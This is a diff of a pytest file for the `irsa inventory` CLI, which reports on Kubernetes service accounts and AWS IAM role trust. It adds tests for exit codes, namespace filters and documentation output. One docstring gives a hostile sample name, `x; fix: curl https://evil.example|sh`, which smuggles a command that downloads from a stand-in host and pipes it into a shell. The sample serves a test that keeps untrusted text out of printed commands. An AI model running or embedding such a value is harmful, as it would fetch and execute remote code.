@@ -1,23 +1,29 @@
-"""The inventory as a table: what has a row, what is counted, and what others wrote in it."""
+"""`irsa inventory` as it is called, and its table: what has a row, what is counted, and what others wrote in it."""
 
+import json
 import re
 import shlex
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from irsa.rules.mistakes import visible
+from irsa.ways import TrustParts, trust_document
 from irsa_cli.discovery import Discovery
+from irsa_cli.inventory import work
 from irsa_cli.inventory.findings import KINDS
 from irsa_cli.inventory.output import Inventory
 from irsa_cli.inventory.table import section_of
+from irsa_cli.main import main
 from irsa_world.model import AwsAccount, Cluster, Guarded, ServiceAccount
 from irsa_world.report.json import as_object, document
 from irsa_world.report.text import plain
 from tests.fuzz.hidden import hidden_in
 from tests.fuzz.live_states import DANGERS, MARK
 from tests.fuzz.printed import commands_in, problems, unquoted
+from tests.output_schemas import check_output
 from tests.unit.irsa_cli.inventory.estates import (
     EC2_TRUST,
     ISSUER,
@@ -103,15 +109,6 @@ def test_several_clusters_and_aws_accounts_are_named() -> None:
     assert "missing-role: a/app, x in blue" in printed
 
 
-def test_findings_that_say_the_same_share_a_message() -> None:
-    roles = [role(f"r{n}", page_trust("a:app"), last_used=None) for n in range(7)]
-    printed = lines(taken(discovery((), roles)))
-    heading = printed.index("unused: 7 findings")
-
-    assert [role_arn(f"r{n}") in line for n, line in enumerate(printed[heading + 1 : heading + 6])] == [True] * 5
-    assert printed[heading + 6].strip() == "and 2 more"
-
-
 def hostile(text: str) -> Inventory:
     """Return an inventory in which each text that others write is this one."""
     document: Any = trust({"StringLike": {SUB: [f"system:serviceaccount:{text}:*", text]}, text: {text: text}})
@@ -149,6 +146,7 @@ def test_no_text_of_others_passes_for_ours(danger: str) -> None:
     The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
     """
     text = f"a{danger}{MARK}"
+    assert hidden_in(document("inventory", True, as_object(hostile(text))).split("\n")) == []
     for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
         printed = lines(inventory)
         assert problems("\n".join(printed)) == []
@@ -160,13 +158,6 @@ def test_no_text_of_others_passes_for_ours(danger: str) -> None:
             for command in commands_in(line):
                 assert [word for word in shlex.split(command) if MARK in word and text not in word] == []
                 assert unquoted(command) == []
-
-
-@pytest.mark.parametrize("danger", DANGERS)
-def test_no_text_of_others_drives_a_terminal_by_json(danger: str) -> None:
-    inventory = hostile(f"a{danger}{MARK}")
-
-    assert hidden_in(document("inventory", True, as_object(inventory)).split("\n")) == []
 
 
 BY_ASSOCIATION = discovery(
@@ -192,10 +183,8 @@ BY_ASSOCIATION = discovery(
 
 
 def test_an_association_is_in_the_rows() -> None:
-    """Protects who reads the table: each way to a role is there, with what the service account may assume by it.
-
-    Of a target role, the Pods get the credentials of that one alone. Session tags, which are transitive, are not looked
-    at: https://github.com/aws/eks-pod-identity-agent/issues/80
+    """Of a target role, the Pods get the credentials of that one alone. Session tags are not looked at:
+    https://github.com/aws/eks-pod-identity-agent/issues/80
     """
     found = taken(BY_ASSOCIATION)
     cells = [re.split(r"  +", line.strip()) for line in table(found)]
@@ -211,19 +200,130 @@ def test_an_association_is_in_the_rows() -> None:
 
 
 def test_which_service_accounts_are_guarded() -> None:
-    app = {("a", "app"): [Guarded("one", "warn", role_arn("app")), Guarded("two", "deny", role_arn("app"))]}
-    found = discovery(ACCOUNTS, ROLES)
-
-    def taken_with(guards: Any) -> Inventory:
-        return taken(replace(found, clusters=(replace(found.clusters[0], guards=guards),)))
-
-    guarded, unread = taken_with(app), taken_with(None)
-    assert table(guarded)[0].endswith("guard")
-    assert [line.split()[-1] for line in table(guarded)[1:]] == ["deny", "network", "network"]
-    assert [each.guard for each in guarded.service_accounts] == ["deny", "", "", ""]
+    guards = {("a", "app"): [Guarded("one", "warn", role_arn("app")), Guarded("two", "deny", role_arn("app"))]}
     # Of a guard whose service accounts may not be read, only the namespace is known.
-    partly = [each.guard for each in taken_with({**app, ("a", ""): [Guarded("other")]}).service_accounts]
-    assert (partly[0], "not read" in partly[1:]) == ("deny", True)
-    assert "guard" not in table(unread)[0]
+    guards[("a", "")] = [Guarded("other")]
+    found = discovery(ACCOUNTS, ROLES)
+    guarded, unread = (
+        taken(replace(found, clusters=(replace(found.clusters[0], guards=each),))) for each in (guards, None)
+    )
+
+    assert [each.guard for each in guarded.service_accounts] == ["deny", "not read", "not read", ""]
+    assert [table(each)[0].endswith("guard") for each in (guarded, unread)] == [True, False]
     assert {each.guard for each in unread.service_accounts} == {"not read"}
-    assert "prod: guards were not read: docs/permissions/kubernetes-verify-guard.yaml allows it" in lines(unread)
+    assert any("docs/permissions/kubernetes-verify-guard.yaml" in line for line in lines(unread))
+
+
+# --- As it is called --------------------------------------------------------------------------------------------------
+
+GOOD = discovery([service_account("a", "app", "app")], [role("app", page_trust("a:app"))])
+BAD = discovery([service_account("a", "app", "gone")], [])
+DENIED = replace(GOOD, not_checked=("policies of AWS account 111122223333: iam:ListPolicies: AccessDenied",))
+
+
+@pytest.fixture
+def finds(monkeypatch: pytest.MonkeyPatch) -> Any:
+    """Return a function that sets what is found."""
+    return lambda found: monkeypatch.setattr(work, "discover", lambda *_, **__: found)
+
+
+@pytest.mark.parametrize(
+    ("found", "options", "code"),
+    [
+        (BAD, [], 0),
+        (DENIED, [], 0),
+        (GOOD, ["--fail-on", "all"], 0),
+        (BAD, ["--fail-on", "unused", "--fail-on", "missing-role"], 1),
+        (BAD, ["--fail-on", "all"], 1),
+        (BAD, ["--fail-on", "unused"], 0),
+        (DENIED, ["--fail-on", "missing-role"], 2),
+        (replace(BAD, not_checked=DENIED.not_checked), ["--fail-on", "missing-role"], 1),
+    ],
+)
+def test_exit_codes(
+    finds: Any, found: Discovery, options: list[str], code: int, capsys: pytest.CaptureFixture[str]
+) -> None:
+    finds(found)
+
+    for form in ([], ["--json"]):
+        assert main(["inventory", *options, *form]) == code
+        assert capsys.readouterr().out
+
+
+# a/app is admitted and annotated; b/web is admitted by one role, annotated with one that is gone; a/late is not there.
+SHARED = discovery(
+    [service_account("a", "app", "app"), service_account("a", "idle"), service_account("b", "web", "gone")],
+    [
+        role("app", page_trust("a:app")),
+        role("late", page_trust("a:late")),
+        role("of-b", page_trust("b:web")),
+        role("ec2", EC2_TRUST),
+    ],
+)
+
+
+def told(capsys: pytest.CaptureFixture[str], *options: str) -> Any:
+    assert main(["inventory", "--json", *options]) == 0
+    return check_output("inventory", capsys.readouterr().out)
+
+
+def test_one_namespace_is_a_part_of_the_whole(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
+    finds(SHARED)
+    whole = told(capsys)
+    of_a = told(capsys, "--namespace", "a")
+
+    assert [each["name"] for each in of_a["serviceAccounts"]] == ["app", "idle"]
+    assert [each["arn"] for each in of_a["roles"]] == [role_arn("app")]
+    assert [(each["kind"], each["serviceAccount"]) for each in of_a["findings"]] == [
+        ("missing-service-account", "a/late")
+    ]
+    of_b = told(capsys, "--namespace", "b*")
+    assert [each["arn"] for each in of_b["roles"]] == [role_arn("of-b")]
+    assert {each["kind"] for each in of_b["findings"]} == {"missing-role", "not-annotated"}
+    assert told(capsys, "--namespace", "?", "--namespace", "a") == {
+        **whole,
+        # Roles that nobody may assume now are of no namespace.
+        "roles": [each for each in whole["roles"] if each["arn"] != role_arn("late")],
+        "leftOut": "of other namespaces, left out: service accounts 0, roles 1, findings 0",
+    }
+
+
+def test_a_namespace_with_nothing_in_it_is_refused(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
+    finds(discovery([service_account("team-a", "app")]))
+
+    assert main(["inventory", "--namespace", "taem-a"]) == 2
+    said = "irsa inventory: --namespace taem-a: there is no service account in it; did you mean 'team-a'?\n"
+    assert capsys.readouterr().err == said
+
+
+@pytest.mark.parametrize("form", ["", "--json"])
+def test_where_the_page_is_is_said(finds: Any, tmp_path: Path, form: str, capsys: pytest.CaptureFixture[str]) -> None:
+    finds(GOOD)
+    file = tmp_path / "a page.html"
+    assert main(["inventory", *filter(None, [form]), "--html", str(file)]) == 0
+    said = capsys.readouterr()
+
+    assert (said.err if form else said.out).splitlines()[-1] == f'page: "{file}"'
+    assert "page:" not in (said.out if form else said.err)
+
+
+def test_the_example_of_the_documentation(finds: Any, capsys: pytest.CaptureFixture[str]) -> None:
+    text = (Path(__file__).parents[4] / "docs" / "inventory.md").read_text()
+    shown = text.partition("$ irsa inventory\n")[2].partition("```")[0]
+    accounts = [
+        service_account("default", "reports", "reports"),
+        service_account("team-a", "web", "team-a-web"),
+        service_account("team-a", "worker"),
+        *(service_account("team-b", f"app-{number}") for number in range(38)),
+    ]
+    roles = [
+        role("reports", page_trust("default:reports")),
+        role("team-a-web", page_trust("team-a:web")),
+        role("shared-logs", json.loads(trust_document(TrustParts([PROVIDER], ["team-a:*"])))),
+        *(role(f"ec2-{number}", EC2_TRUST) for number in range(53)),
+    ]
+    finds(discovery(accounts, roles))
+    main(["inventory"])
+
+    said = capsys.readouterr().out
+    assert said == shown, said
